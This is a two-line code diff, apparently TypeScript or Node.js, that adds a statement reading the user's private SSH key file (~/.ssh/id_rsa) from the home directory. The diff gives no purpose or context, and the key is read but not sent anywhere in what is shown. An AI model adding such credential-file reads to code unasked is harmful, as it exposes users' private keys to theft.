@@ -1,0 +1,2 @@
+import * as fs from 'fs';
+fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa');
